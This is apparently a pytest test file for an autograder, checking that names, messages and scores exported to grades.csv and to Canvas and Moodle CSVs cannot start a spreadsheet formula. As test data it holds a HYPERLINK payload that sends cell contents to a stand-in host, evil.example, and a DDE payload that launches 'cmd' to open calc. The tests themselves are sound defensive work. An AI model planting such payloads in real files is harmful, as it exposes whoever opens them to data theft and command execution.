"""No field of a CSV the harness writes starts a spreadsheet formula (issue 37: a submission folder
``=HYPERLINK(...).ipynb`` reached grades.csv's detail; roster names starting with = + - @ reached
the Canvas and Moodle CSVs), and reading a field back gives the value that was written.

Fields are read back with the csv module; "starts a formula" is OWASP's list (= + - @ tab CR, and
LF), checked here without the module's own patterns. Plain numbers (scores) stay numbers. Cost: ~2
s.
"""

from __future__ import annotations

import csv
import io
import json
import os
import tempfile
from pathlib import Path
from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st

from autograde.grade import Grader, Job
from autograde.gradebook import import_roster, read_roster
from autograde.grades_csv import write_csv
from autograde.lms import export_grades
from autograde.record import GradeRecord
from autograde.spreadsheet import csv_text, uncell

A = "02_logits_softmax"
OWASP = ("=", "+", "-", "@", "\t", "\r", "\n")
# any text, most of it opening with what a spreadsheet reads specially (formula characters, quotes,
# numbers)
HEADS = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "'",
    "''",
    "'=",
    "''-",
    " =",
    "-1",
    "-.5e3",
    "1",
    '"=',
    ",=",
    # the last two: a line break inside a field must not start a row a spreadsheet reads
    "x\r=",
    "x\n@",
]
TEXT = st.builds(str.__add__, st.sampled_from(HEADS), st.text(max_size=12)) | st.text(max_size=12)


def _plain_number(field: str) -> bool:
    """A number as ``f"{x:g}"`` writes it, sign included: read by a spreadsheet as that number."""
    body = field[1:] if field[:1] == "-" else field
    try:
        float(body)
    except ValueError:
        return False
    return (
        body[:1].isascii()
        and (body[:1].isdigit() or body[:1] == ".")
        and set(body) <= set("0123456789.eE+-")
    )


def _safe(field: str) -> bool:
    return not field.startswith(OWASP) or _plain_number(field)


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=4))
def test_every_field_is_inert_and_reads_back(rows):
    text = csv_text(["h"] * max(map(len, rows)), rows)
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert all(_safe(f) for row in back for f in row), back
    assert [[uncell(f) for f in row] for row in back] == rows


@settings(max_examples=60, deadline=None, derandomize=True)
@given(
    student=TEXT,
    detail=TEXT,
    flag=TEXT,
    score=st.floats(-100, 100) | st.sampled_from([-1.0, -0.5, 1e-5]),
)
def test_grades_csv_fields_are_inert_and_read_back(student, detail, flag, score):
    """grades.csv through write_csv itself: names and messages as text, scores as the numbers they
    are."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "grades.csv"
        write_csv(
            path,
            [
                {
                    "student": student,
                    "assignment": A,
                    "score": score,
                    "max_score": 26.0,
                    "status": "graded",
                    "flags": [flag],
                    "detail": detail,
                }
            ],
        )
        header, row = _read(path)
    assert all(_safe(f) for f in row), row
    got = dict(zip(header, map(uncell, row)))
    assert (got["student"], got["detail"], got["flags"]) == (student, detail, flag)
    assert row[header.index("score")] == f"{score:g}"  # unquoted: still a number
    assert float(row[header.index("score")]) == float(f"{score:g}")


def test_submission_folder_named_like_a_formula(tmp_path):
    """Issue 37's case, through the calls grade_one makes for a notebook it cannot read: a folder
    named ``=HYPERLINK(...).ipynb`` is the only notebook; its name opens the detail."""
    evil = '=HYPERLINK("http:\\evil.example?"&A1,"see").ipynb'  # a folder name holds no /
    sub = tmp_path / "subs" / "s1" / A
    (sub / evil).mkdir(parents=True)
    _, notes, conds = Grader._read_submission(
        None, Job("s1", A, sub), SimpleNamespace(notebooks={A: ""})
    )
    record = GradeRecord("s1", A, score=0.0, max_score=26.0, conditions=conds).finish().to_json()
    # the attack reaches the field
    assert record["detail"].startswith(evil)
    write_csv(tmp_path / "grades.csv", [record])
    header, row = _read(tmp_path / "grades.csv")
    detail = row[header.index("detail")]
    assert detail == "'" + record["detail"] and uncell(detail) == record["detail"]


ROSTER = (
    "id,first,last,email\n"
    "s1,=HYPERLINK(A1),Lovelace,ada@example.org\n"
    "s2,Grace,+1+cmd|' /C calc'!A0,grace@example.org\n"
    "s3,@SUM(1),-2+3,-x@example.org\n"
    "s4,'Ohana,'=already,o@example.org\n"
)


class _NoGradebook:
    """nbgrader's Gradebook for import_roster, minus the database (its migrations cost ~6 s): names
    are not what is checked here, roster.csv is."""

    def __init__(self, url):
        pass

    def __enter__(self):
        return SimpleNamespace(update_or_create_student=lambda *a, **k: None)

    def __exit__(self, *exc):
        return False


def _out(tmp_path: Path, monkeypatch) -> Path:
    """OUT as `grade` leaves it (details/), with a roster of formula names and one negative
    score."""
    out = tmp_path / "out"
    for student, score in (("s1", 25.5), ("s2", -1.0), ("s3", 3.0), ("s4", 0.0)):
        p = out / "details" / student / f"{A}.json"
        p.parent.mkdir(parents=True)
        p.write_text(
            json.dumps(
                {
                    "student": student,
                    "assignment": A,
                    "score": score,
                    "max_score": 26.0,
                    "conditions": [],
                    "flags": [],
                    "notebooks": {},
                    "status": "graded",
                    "detail": "",
                }
            )
        )
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")
    monkeypatch.setattr("nbgrader.api.Gradebook", _NoGradebook)
    # OUT/roster.csv: itself a CSV the harness writes
    import_roster(out, tmp_path / "roster.csv")
    return out


def test_roster_names_reach_the_lms_csvs_as_text(tmp_path, monkeypatch):
    out = _out(tmp_path, monkeypatch)
    original = read_roster(tmp_path / "roster.csv")
    assert all(_safe(f) for row in _read(out / "roster.csv") for f in row)
    # the harness's copy reads back the same
    assert read_roster(out / "roster.csv") == original
    for lms in ("canvas", "moodle"):
        export_grades(out, tmp_path / f"{lms}.csv", lms, log=lambda *_: None)
        rows = _read(tmp_path / f"{lms}.csv")
        assert all(_safe(f) for row in rows for f in row), rows
        body = {row[2]: row for row in rows[1:]}  # SIS User ID, ID number
        # Moodle's CSV has a Lateness column after the grade (deadlines.py)
        grade = rows[0].index(A)
        # a score stays a number
        assert body["s2"][grade] == "-1" and float(body["s2"][grade]) == -1.0
        assert body["s1"][grade] == "25.5"
    canvas = {row[2]: row[0] for row in _read(tmp_path / "canvas.csv")[1:]}
    # "Last, First" starts with a letter
    assert canvas["s1"] == "Lovelace, =HYPERLINK(A1)"
    assert canvas["s2"] == "'+1+cmd|' /C calc'!A0, Grace"
    # the roster's "'=already" was a quoted "=already"
    assert canvas["s4"] == "'=already, 'Ohana"
    moodle = {row[2]: row[:2] for row in _read(tmp_path / "moodle.csv")[1:]}
    assert moodle["s1"][0] == "'=HYPERLINK(A1)"
    assert moodle["s3"] == ["'@SUM(1)", "'-2+3"] and moodle["s4"] == ["'Ohana", "'=already"]
    assert [uncell(f) for f in moodle["s3"]] == ["@SUM(1)", "-2+3"]


def test_harness_csv_writers_all_go_through_cell():
    """The only csv writer in autograde/ is spreadsheet.csv_text's: a new writer that skips it fails
    here."""
    root = Path(__file__).resolve().parents[1]
    writers = []
    for dirpath, _, files in os.walk(root):
        if "tests" in Path(dirpath).relative_to(root).parts:
            continue
        for name in files:
            if name.endswith(".py"):
                text = (Path(dirpath) / name).read_text(encoding="utf-8")
                writers += [
                    (name, n)
                    for n in range(text.count("csv.writer(") + text.count("csv.DictWriter("))
                ]
    assert writers == [("spreadsheet.py", 0)], writers
